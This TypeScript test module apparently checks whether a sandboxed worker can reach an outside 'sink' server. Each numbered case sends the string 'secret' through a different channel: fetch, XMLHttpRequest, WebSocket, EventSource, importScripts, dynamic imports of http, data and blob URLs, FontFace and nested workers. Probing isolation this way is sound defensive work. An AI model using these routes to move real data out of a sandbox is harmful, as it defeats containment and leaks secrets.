import type { Sink } from "./sink";

/** Each way tries to reach the sink and swallows whatever stops it. `attempt` is defined by the program. */
export const WAYS: Record<string, (sink: Sink) => Record<string, string>> = {
  "30: fetch, XMLHttpRequest, WebSocket, EventSource": ({ url, host }) => ({
    "fetch cors": `await fetch("${url}/a?d=secret");`,
    "fetch no-cors": `await fetch("${url}/b?d=secret", { mode: "no-cors" });`,
    "fetch keepalive": `await fetch("${url}/c", { method: "POST", body: "secret", keepalive: true });`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "${url}/d?d=secret", false); x.send();`,
    WebSocket: `new WebSocket("ws://${host}/e?d=secret"); await pause(200);`,
    EventSource: `const e = new EventSource("${url}/events?d=secret"); await pause(200); e.close();`,
  }),
  // The address of an import stands in a variable: as a literal it is refused before the program runs.
  "31: importScripts and import of http, data and blob": ({ url }) => ({
    importScripts: `importScripts("${url}/f?d=secret");`,
    "import http": `const a = "${url}/g?d=secret"; await import(a);`,
    "import data": `const a = "data:text/javascript,await fetch('${url}/h')"; await import(a);`,
    "import blob": `const a = blob("await fetch('${url}/i')"); await import(a);`,
    "import http from blob": `const a = blob("import '${url}/j'"); await import(a);`,
  }),
  "32: FontFace and a nested worker": ({ url }) => ({
    FontFace: `const f = new FontFace("x", "url(${url}/k?d=secret)"); await f.load();`,
    "nested worker": `new Worker(URL.createObjectURL(new Blob(["fetch('${url}/l')"]))); await pause(400);`,
  }),
};

export const PRELUDE = `
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const attempt = async (name, way) => { try { await way(); } catch (error) { self.failed = name + error; } };`;
